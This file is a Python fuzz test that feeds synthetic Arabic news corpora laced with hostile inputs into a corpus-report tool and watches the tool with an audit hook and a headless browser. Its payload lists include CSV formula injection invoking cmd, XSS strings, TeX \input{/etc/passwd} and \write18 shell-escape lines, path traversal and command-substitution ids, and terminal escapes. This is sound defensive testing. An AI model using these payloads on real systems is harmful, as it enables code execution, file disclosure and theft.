"""Reports of small corpora full of what could run, break a file or turn text about.

    python tests/fuzz/hostile_corpora.py [--seeds 2] [--only KIND] [--keep FOLDER] [--notebooks]

Each kind of corpus is made from its name and a seed, a report is written of it by the command, and
all that it wrote is opened (``tests/opened.py``). What the command opens for writing, starts or
connects to is watched by an audit hook; pages are opened in Chromium where it is there. Exit status
1 on any fault.
"""

import argparse
import csv
import json
import os
import random
import re
import subprocess
import sys
import tempfile
import time
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent.parent))

from opened import problems_in

__all__ = ["KINDS", "articles_of", "made"]

_HANG = 600
Row = dict[str, object]

# -- plain articles, of words of our own -----------------------------------------------------------

_WHO = ["وزير المياه", "رئيسة البلدية", "المتحدث باسم الميناء", "مديرة المشفى", "مهندس السد"]
_VERB = ["افتتح", "زار", "راجع", "وسع", "رمم", "درس", "أغلق"]
_WHAT = ["السد الجديد", "محطة القطار", "سوق السمك", "طريق الجبل", "مدرسة الحي", "جسر النهر"]
_WHERE = ["في المدينة القديمة", "على الساحل", "قرب النهر", "في الوادي", "عند المرفأ"]
_WHEN = ["صباح الأحد", "في 3 آذار 2016", "أمس", "بعد أسبوع من العمل", "يوم الثلاثاء"]
_MORE = ["وحضر الافتتاح عدد من الأهالي", "وقدرت الكلفة بمليون دينار", "ولم تعلن اللجنة موعدا آخر"]


def _sentence(rng: random.Random) -> str:
    parts = [rng.choice(words) for words in (_VERB, _WHO, _WHAT, _WHERE, _WHEN)]
    return " ".join([*parts, rng.choice(_MORE)]) + "."


def _said(rng: random.Random, who: str, what: str = "") -> str:
    words = what or f"{rng.choice(_WHAT)} يخدم أهل {rng.choice(_WHAT)} منذ سنوات"
    return f"وقال {who} إن «{words}» {rng.choice(_WHERE)}."


def _article(rng: random.Random, n: int) -> Row:
    lines = [_sentence(rng) for _ in range(rng.randint(2, 5))]
    lines.append(_said(rng, rng.choice(_WHO)))
    outlet = rng.choice(["المرسى", "الضفة", "صحيفة الوادي"])
    title = f"{rng.choice(_VERB)} {rng.choice(_WHAT)} {rng.choice(_WHERE)} {n}"
    date = f"2016-0{rng.randint(1, 3)}-{rng.randint(10, 28)}"
    return {
        "id": f"a{n}",
        "title": title,
        "outlet": outlet,
        "date": date,
        "text": "\n".join(lines),
    }


# -- what is put into them -------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u200f=1+1",
    "\u202e=1+1",
    "\u200b@SUM(1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "- قال+cmd|'/C calc'!A0",
    "a;=1+1",
    "خبر;@SUM(1);خبر",
    "خبر\t=1+1",
    '"=1+1',
    "'=1+1",
    "خبر\n=1+1",
    'a";=1+1;"',
    '=HYPERLINK("http://e.invalid/?"&A1)',
    "%0A=1+1",
    "-قال الوزير",
    "= قال",
    "خبر؛=1",
    "﹦1+1",
    "⁼1+1",
    "−1+1|A0",
    "=\u200b1+1",
    "\u061c=1",
    "\u00ad=1",
]
BREAKS = [
    "\r",
    "\n",
    "\r\n",
    "\x0b",
    "\x0c",
    "\x85",
    "\u2028",
    "\u2029",
    "\x00",
    "\x1c",
    "\x1a",
    "\ufeff",
]
ESCAPES = [
    "\x1b[31mخبر\x1b[0m",
    "\x1b]0;خبر\x07",
    "\x1b]8;;http://e.invalid\x1b\\خبر\x1b]8;;\x1b\\",
    "\x07\x08",
    "\x9b31mخبر",
    "\x1bP+q\x1b\\",
    "\x1b[2J\x1b[H",
    "\x7f\x08\x08",
    "\x1b[6n",
    "\x90\x9c",
]
TURNS = [
    "\u202eعكس",
    "نهر\u202d12",
    "\u202aab",
    "\u202b\u202b\u202bسد",
    "\u2067سد",
    "\u2066a",
    "\u2068سد",
    "سد\u2069\u2069",
    "\u202c\u202cسد",
    "\u202egpj.exe",
    "\u2066\u202e\u2067",
    "\u061c\u200e\u200f",
]
MATH = [
    r"$\frac{$",
    "$x$",
    r"\$",
    "$",
    "$$",
    "$$$",
    r"$\undefined$",
    "_",
    "_nolegend_",
    "__",
    "_خبر",
    "%",
    r"$\mathdefault{x}$",
    "^",
    "$_$",
    r"$\sqrt{$ و $",
    "$^$",
    r"\(x\)",
    r"\[x\]",
    "{",
    "}",
    "{0}",
    "%s",
    "$\u202e$",
    "$خبر$ و $",
    r"$\left($",
    "a$b$c$d",
    "$\\int_0^1$ نهر",
]
LETTERS = [
    "ş",
    "ř",
    "ễ",
    "Š",
    "\u2011",
    "ñ",
    "Å",
    "ǆ",
    "ﬁ",
    "\u0130stanbul",
    "Đ",
    "ơ",
    "ử",
    "ț",
    "e\u0301",
]
TEX = [
    r"\input{/etc/passwd}",
    r"^^5cinput{/etc/passwd}",
    r"\write18{id}",
    "[3pt]",
    "*",
    "[",
    "]",
    r"\\",
    r"\end{longtable}",
    "% خبر",
    "a & b",
    "#1",
    "~",
    "``",
    "''",
    '"',
    r"\catcode`\%=12",
    "{",
    "}",
    "}{",
    r"\verb|x|",
    "^^M",
    "\\",
    "---",
    "<<",
    r"\csname input\endcsname",
    "[\\input{a}]",
    "*[3pt]",
]
MARKUP = [
    "<script>window.hacked=1</script>",
    "<img src=http://e.invalid/a.png onerror=window.hacked=1>",
    "</script><script>window.hacked=1</script>",
    "javascript:window.hacked=1",
    "{{7*7}}",
    "{% raw %}",
    "<svg onload=window.hacked=1>",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[",
    "&lt;b&gt;",
    "&#x202e;",
    "<b",
    '"><img src=x onerror=window.hacked=1>',
    "' onmouseover='window.hacked=1",
    "</title><b>",
    "</textarea>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<link rel=stylesheet href=//e.invalid>",
    "data:text/html,<script>window.hacked=1</script>",
    "<style>*{background:url(http://e.invalid)}</style>",
    "<meta http-equiv=refresh content='0;url=http://e.invalid'>",
    "`${window.hacked=1}`",
    "\\u003cscript>",
]
XML = [
    "\x01",
    "\x1f",
    "\ufffe",
    "\uffff",
    "\ufdd0",
    "\U0001fffe",
    "_x0041_",
    "_x000D_",
    "<a>&amp;",
    "]]>",
    "\x0e",
]
IDS = [
    "../../canary",
    "/etc/passwd",
    "C:\\Windows\\x",
    "..\\..\\canary",
    "CON",
    "NUL",
    "aux",
    "com1.txt",
    "a" * 300,
    "ن" * 300,
    "Abc",
    "abc",
    "ABC",
    "e\u0301",
    "\u00e9",
    "~",
    "~/x",
    ".",
    "..",
    "a/../b",
    "a b",
    "a?b",
    "a*b",
    "a|b",
    "a:b",
    '"',
    "<a>",
    "a\tb",
    "a\nb",
    "x.",
    " x",
    "index.html",
    "\u202ea",
    "%2e%2e%2f",
    "-rf",
    "--out",
    "$HOME",
    "`id`",
    "=1+1",
    "0",
    "nan",
    "None",
    "1e5",
    "a\u200b",
    "a\ufeff",
    "__proto__",
    "constructor",
    "toString",
    "id",
    "\x1b[31m",
    "#",
    "?",
    "&",
    "'",
    "file:///etc/passwd",
    "//e.invalid/x",
    "a;=1",
]
TITLES = [
    "",
    " ",
    "\u00a0\u2003",
    "َُِّْ",
    "ـــ",
    "\u200b",
    "." * 50,
    "ن" * 10_000,
    "نهر " * 2_500,
    "a" * 10_000,
    "🌊" * 500,
    "َ" * 5_000,
    "ن" + "َ" * 3_000,
    "\u200f" * 100,
    "،؛؟",
    "١٢٣",
    "1",
    "nan",
    "None",
    "ﷺ",
    "\u0301",
    "﷽" * 60,
    "\u0600\u0601",
    "𞤀𞤣",
    "ܣܘܪ",
    "中文标题",
    "हिन्दी",
    "ไทย",
    "\ue000\uf8ff",
    "\U000e0001\U000e0041",
    "ا\u200d" * 200,
]
HALVES = ["\ud800", "\udc00", "a\udfffb", "\ud83d", "نهر\udcff"]
EVERYTHING = [
    *FORMULAS,
    *BREAKS,
    *ESCAPES,
    *TURNS,
    *MATH,
    *LETTERS,
    *TEX,
    *MARKUP,
    *XML,
    *IDS,
    *TITLES,
    *HALVES,
]

_FIELDS = ("title", "outlet", "label", "author", "section", "url", "date", "id")


def _some(rng: random.Random, stuff: Sequence[str], text: str) -> str:
    """Put some of it before, after, in the middle of a text, or in its place."""
    piece = rng.choice(stuff)
    at = rng.randrange(len(text) + 1)
    ways = [
        piece,
        piece + text,
        f"{piece} {text}",
        f"{text} {piece}",
        text[:at] + piece + text[at:],
    ]
    return rng.choice(ways)


def _fill(rng: random.Random, stuff: Sequence[str], rows: list[Row], fields: Sequence[str]) -> None:
    """Put it into fields of most rows; some outlets hold several articles, so that they are drawn."""
    outlets = [_some(rng, stuff, "الضفة") for _ in range(3)]
    for row in rows:
        for field in fields:
            if rng.random() < 0.7:
                row[field] = _some(rng, stuff, str(row.get(field, "")) or "خبر")
        if "outlet" in fields:
            row["outlet"] = rng.choice(outlets)
        if "text" in fields:
            lines = [_some(rng, stuff, line) for line in str(row["text"]).split("\n")]
            who, what = (
                _some(rng, stuff, "وزير المياه"),
                _some(rng, stuff, "النهر يفيض على السد كل عام"),
            )
            row["text"] = "\n".join(
                [*lines, _said(rng, who, what), _said(rng, rng.choice(_WHO), what)]
            )


def articles_of(rng: random.Random, stuff: Sequence[str], fields: Sequence[str]) -> list[Row]:
    """Make the rows of a small corpus, with such stuff in such fields."""
    rows = [_article(rng, n) for n in range(rng.choice((8, 8, 12, 20, 60)))]
    _fill(rng, stuff, rows, fields)
    if "id" not in fields:
        return rows
    ids = list(dict.fromkeys([*rng.sample(list(stuff), min(len(rows), len(set(stuff)))), *IDS]))
    for row, own in zip(rows, ids, strict=False):
        row["id"] = own
    return rows


# -- how they are stored ---------------------------------------------------------------------------


def _as_lines(folder: Path, rows: list[Row]) -> tuple[Path, list[str]]:
    path = folder / "corpus.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path, []


def _as_table(folder: Path, rows: list[Row]) -> tuple[Path, list[str]]:
    path = folder / "corpus.csv"
    names = list(dict.fromkeys(name for row in rows for name in row))
    with path.open("w", encoding="utf-8", errors="replace", newline="") as file:
        writer = csv.DictWriter(file, names)
        writer.writeheader()
        writer.writerows(rows)
    return path, []


def _file_name(name: str, n: int) -> str:
    safe = name.replace("/", "_").replace("\x00", "")
    while len(safe.encode("utf-8", "surrogateescape")) > 200:
        safe = safe[:-1]
    return f"{safe}{n}.txt"


def _as_files(folder: Path, rows: list[Row]) -> tuple[Path, list[str]]:
    """Write a file an article, named by its id, in folders named by its outlet; and metadata."""
    path = folder / "corpus"
    path.mkdir()
    known = []
    for n, row in enumerate(rows):
        name = _file_name(re.sub("[\ud800-\udfff]", "", str(row["id"])), n)
        text = f"{row['title']}\n{row['text']}".encode("utf-8", "replace")
        (path / name).write_bytes(text)
        known.append(
            {"id": name.removesuffix(".txt"), "outlet": row["outlet"], "date": row["date"]}
        )
    table = folder / "known.csv"
    with table.open("w", encoding="utf-8", errors="replace", newline="") as file:
        writer = csv.DictWriter(file, ["id", "outlet", "date"])
        writer.writeheader()
        writer.writerows(known)
    if re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", table.read_text("utf-8")):
        return path, []  # no table of text
    return path, ["--metadata", str(table)]


def _as_archive(folder: Path, rows: list[Row]) -> tuple[Path, list[str]]:
    path = folder / "corpus.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for row in rows:
            name = f"{row['id']}.txt".encode("utf-8", "replace").decode()
            archive.writestr(name, f"{row['title']}\n{row['text']}".encode("utf-8", "replace"))
    return path, []


def _as_pages(folder: Path, rows: list[Row]) -> tuple[Path, list[str]]:
    path = folder / "corpus"
    path.mkdir()
    for n, row in enumerate(rows):
        body = "".join(f"<p>{line}</p>" for line in str(row["text"]).split("\n"))
        page = (
            f"<html><head><title>{row['title']}</title>"
            f"<meta property='og:site_name' content=\"{row['outlet']}\"></head>"
            f"<body><h1>{row['title']}</h1>{body}</body></html>"
        )
        (path / f"p{n}.html").write_bytes(page.encode("utf-8", "replace"))
    return path, []


Store = Callable[[Path, list[Row]], tuple[Path, list[str]]]
_ALL, _NAMES = ("title", "outlet", "label", "author", "section", "url"), ("title", "outlet")

#: Of each kind: what is put into which fields, and how it is stored.
KINDS: dict[str, tuple[Sequence[str], Sequence[str], Store]] = {
    "formulas": (FORMULAS, (*_ALL, "text"), _as_lines),
    "formulas in a table": (FORMULAS, (*_ALL, "id"), _as_table),
    "breaks": (BREAKS, (*_ALL, "text"), _as_lines),
    "escape codes": (ESCAPES, (*_ALL, "text"), _as_lines),
    "escape codes in names of files": (ESCAPES, ("title", "id", "outlet"), _as_files),
    "turns": (TURNS, (*_ALL, "text"), _as_lines),
    "turns in names of files": (TURNS, ("title", "id", "outlet"), _as_files),
    "mathtext": (MATH, (*_ALL, "text"), _as_lines),
    "mathtext in outlets": (MATH, ("outlet", "label"), _as_table),
    "letters": (LETTERS, (*_NAMES, "text"), _as_lines),
    "tex": (TEX, (*_ALL, "text"), _as_lines),
    "markup": (MARKUP, (*_ALL, "text"), _as_lines),
    "markup in pages": (MARKUP, (*_NAMES, "text"), _as_pages),
    "xml": (XML, (*_ALL, "text"), _as_lines),
    "ids": (IDS, ("id",), _as_lines),
    "ids in an archive": (IDS, ("id",), _as_archive),
    "titles": (TITLES, _NAMES, _as_lines),
    "halves": (HALVES, (*_ALL, "text", "id"), _as_lines),
    "everything": (EVERYTHING, (*_ALL, "text", "id"), _as_lines),
    "everything in files": (EVERYTHING, ("title", "id", "outlet", "text"), _as_files),
}


def made(kind: str, seed: int, folder: Path) -> tuple[Path, list[str], int]:
    """Write a corpus into a folder; return it, the options it wants, and how many articles it has."""
    rng = random.Random(f"{kind}/{seed}")
    stuff, fields, store = KINDS[kind]
    rows = articles_of(rng, stuff, fields)
    return *store(folder, rows), len(rows)


# -- a report, watched -----------------------------------------------------------------------------

_WATCHED = r"""
import os, sys
wrote, allowed = sys.argv[1], tuple(sys.argv[2].split(os.pathsep))
log = open(wrote, "w", encoding="utf-8", errors="backslashreplace")
busy = False
def hook(event, args):
    global busy
    if busy:
        return
    told = None
    if event == "open" and isinstance(args[0], (str, bytes)):
        mode, flags = args[1], args[2]
        writes = (mode and set(str(mode)) & set("wax+")) or (flags or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)
        path = os.path.abspath(os.fsdecode(args[0]))
        if writes and not path.startswith((*allowed, "/dev/")):
            told = f"wrote {path!r}"
        if path.startswith(("/etc/passwd", "/etc/shadow")) or "canary" in path.split(os.sep):
            told = f"read {path!r}"
    elif event in ("os.rename", "os.mkdir", "os.remove", "os.symlink", "os.link", "shutil.move"):
        for one in args[:2]:
            if isinstance(one, (str, bytes)) and not os.path.abspath(os.fsdecode(one)).startswith(allowed):
                if not os.path.isabs(os.fsdecode(one)) or event == "os.mkdir" and os.path.isdir(one):
                    continue
                told = f"{event} {one!r}"
    elif event in ("os.system", "os.exec", "socket.connect", "webbrowser.open"):
        told = f"{event} {args!r}"
    if told:
        busy = True
        log.write(told[:300] + "\n"); log.flush()
        busy = False
sys.addaudithook(hook)
from corpus_tools.cli import main
sys.exit(main(sys.argv[3:]))
"""


def faults_of(
    kind: str, seed: int, root: Path, *, notebooks: bool, browser: object
) -> Iterator[tuple[str, str]]:
    """Write a report of a corpus and yield what is wrong: the sort of fault, and what it is."""
    corpus, options, _ = made(kind, seed, root)
    home, scratch, out = (root / name for name in ("home", "tmp", "out"))
    home.mkdir()
    scratch.mkdir()
    (root / "canary").write_text("canary-in-a-mine", encoding="utf-8")
    before = {path for path in root.rglob("*") if not path.is_relative_to(home)}
    log = root / "log"
    lang = random.Random(f"{kind}/{seed}").choice(("ar", "en", "both"))
    asked = ["report", str(corpus), "--out", str(out), "--lang", lang, *options]
    asked += [] if notebooks else ["--no-notebooks"]
    allowed = os.pathsep.join(map(str, (out, home, scratch, log, root / ".out.")))
    env = {**os.environ, "HOME": str(home), "TMPDIR": str(scratch), "PYTHONIOENCODING": "utf-8"}
    env["NUMBA_CACHE_DIR"] = os.environ.get("NUMBA_CACHE_DIR", str(home / "numba"))
    try:
        done = subprocess.run(
            [sys.executable, "-c", _WATCHED, str(log), allowed, *asked],
            capture_output=True, env=env, timeout=_HANG, cwd=root, check=False,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        yield "hang", f"more than {_HANG} s"
        return
    said = (done.stdout + done.stderr).decode("utf-8", "replace")
    if "Traceback" in said:
        yield "crash", said.strip().splitlines()[-1][:300]
    if done.returncode != 0:
        yield (
            "exit",
            f"status {done.returncode}: {said.strip().splitlines()[-1][:300] if said else ''}",
        )
    for line in said.split("\n"):
        if found := re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2028\u2029]", line):
            yield "lost", f"U+{ord(found[0]):04X} on the terminal: {line[:120]!r}"
    for line in log.read_text("utf-8").splitlines():
        yield "lost", line
    after = {path for path in root.rglob("*") if not path.is_relative_to(home)}
    made_there = {
        path for path in after - before
        if path != log and not path.is_relative_to(out) and not path.is_relative_to(scratch)
    }  # fmt: skip
    yield from (("lost", f"outside: {path}") for path in sorted(made_there))
    yield from (("lost", f"left behind: {path}") for path in sorted(scratch.iterdir()))
    if not out.is_dir():
        return
    left_out = json.loads((out / "summary.json").read_text("utf-8"))["left_out"]
    yield from (("lost", f"left out: {name}: {why}"[:300]) for name, why in left_out.items())
    yield from (("lost", told) for told in problems_in(out))
    for path in out.rglob("*"):
        if path.is_file() and b"canary-in-a-mine" in path.read_bytes():
            yield "lost", f"{path.name} holds a file from elsewhere"
    if browser is not None:
        yield from (("lost", told) for told in _seen(browser, out / "index.html"))


def _seen(browser: object, page: Path) -> Iterator[str]:
    """Open a page, click through it, and yield what ran or was asked for."""
    context = browser.new_context()  # type: ignore[attr-defined]
    opened = context.new_page()
    found: list[str] = []
    opened.on("request", lambda asked: found.append(asked.url))
    opened.on("dialog", lambda dialog: (found.append(f"dialog {dialog.message}"), dialog.dismiss()))
    opened.on("pageerror", lambda error: found.append(f"error {error}"))
    opened.goto(page.resolve().as_uri(), wait_until="load")
    opened.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true })")
    for button in opened.query_selector_all("[data-article], button")[:12]:
        try:
            button.click(timeout=500)
            opened.keyboard.press("Escape")
        except Exception:
            continue
    if opened.evaluate("typeof window.hacked") != "undefined":
        found.append("a script of the corpus ran")
    context.close()
    folder = page.parent.resolve().as_uri()
    yield from (one[:200] for one in found if not one.startswith((folder, "data:", "blob:")))


def main(argv: Sequence[str] | None = None) -> int:
    """Try corpora of each kind; print what was found, and a table."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seeds", type=int, default=2)
    parser.add_argument("--first", type=int, default=0)
    parser.add_argument("--only", default="")
    parser.add_argument("--keep", type=Path)
    parser.add_argument("--notebooks", action="store_true")
    parser.add_argument("--no-browser", action="store_true")
    options = parser.parse_args(argv)
    tallies: dict[str, Counter[str]] = {}
    browser = None if options.no_browser else _browser()
    for kind in [one for one in KINDS if options.only in one]:
        tally = tallies[kind] = Counter()
        for seed in range(options.first, options.first + options.seeds):
            with tempfile.TemporaryDirectory(prefix="hostile ") as scratch:
                root = Path(scratch)
                if options.keep:
                    root = options.keep / f"{kind.replace(' ', '-')}-{seed}"
                    root.mkdir(parents=True)
                start = time.monotonic()
                found = list(
                    faults_of(kind, seed, root, notebooks=options.notebooks, browser=browser)
                )
            tally["tried"] += 1
            tally.update({sort for sort, _ in found})
            print(
                f"{kind} {seed}: {len(found)} faults, {time.monotonic() - start:.0f} s", flush=True
            )
            for sort, told in found[:25]:
                print(f"   {sort}: {told.encode('unicode_escape').decode()}", flush=True)
    head = ("tried", "crash", "hang", "exit", "lost")
    print(f"\n| {'kind':32} | {' | '.join(head)} |\n|{'-' * 34}|{'---|' * len(head)}")
    for kind, tally in tallies.items():
        print(f"| {kind:32} | {' | '.join(str(tally[name]) for name in head)} |")
    return int(any(set(tally) - {"tried"} for tally in tallies.values()))


def _browser() -> object:
    """Start Chromium, if it is there."""
    try:
        from playwright.sync_api import sync_playwright

        playwright = sync_playwright().start()
        for way in ({}, {"executable_path": "/usr/bin/chromium"}):
            try:
                return playwright.chromium.launch(**way)
            except Exception:
                continue
    except ImportError:
        pass
    return None


if __name__ == "__main__":
    raise SystemExit(main())
